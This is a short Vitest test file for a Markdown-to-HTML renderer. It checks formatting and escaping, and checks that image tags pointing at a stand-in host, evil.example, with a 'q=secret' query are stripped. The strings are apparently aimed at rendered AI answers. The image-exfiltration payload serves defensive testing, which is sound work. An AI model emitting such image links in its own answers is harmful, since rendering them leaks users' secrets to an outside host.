import { expect, it } from "vitest";
import { toHtml } from "./toHtml";

it("renders Markdown", () => {
  expect(toHtml("**a** `b<c`\n\n| x |\n| - |\n| y |")).toContain("<strong>a</strong> <code>b&lt;c</code>");
  expect(toHtml("| x |\n| - |\n| y |")).toContain("<td>y</td>");
});

it("lets no answer fetch anything", () => {
  const html = toHtml(
    '![a"b](https://evil.example/?q=secret)\n\n<img src="https://evil.example">\n\nx <b>y</b>',
  );
  expect(html).not.toContain("<img");
  expect(html).not.toContain("<b>");
  expect(html).toContain('<a href="https://evil.example/?q=secret">a&quot;b</a>');
});
